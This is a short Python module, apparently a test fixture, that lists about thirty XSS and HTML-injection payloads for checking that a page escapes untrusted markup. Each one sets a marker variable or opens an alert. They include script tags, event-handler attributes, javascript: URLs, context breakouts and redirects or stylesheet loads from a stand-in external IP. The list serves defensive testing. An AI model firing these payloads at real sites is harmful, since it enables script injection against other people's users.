"""Strings that would run or break out if a page put one anywhere as markup. Each would set `window.__ran`, or open a dialog."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.__ran=1;alert(1)"
PAYLOADS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<a href=javascript:{RUN}>read</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` onmouseover=`{RUN}`",
    f"javascript:{RUN}",
    f"{{{{ ''.__class__ }}}}{{% set x = 1 %}}<script>{RUN}</script>",
    f"${{{RUN}}}",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<form action=javascript:{RUN}><button id=go>go</button></form>",
    f"<div hx-get=/undo hx-trigger=load hx-on:load={RUN}>x</div>",
    "<div data-key=a hx-post=/undo hx-trigger=load>x</div><base href=//198.51.100.7/><meta http-equiv=refresh content='0;url=//198.51.100.7/'>",
    f"\u202e<script>{RUN}</script>\u2066\u200b",
    f"<link rel=stylesheet href=//198.51.100.7/x.css><object data=javascript:{RUN}></object>",
)
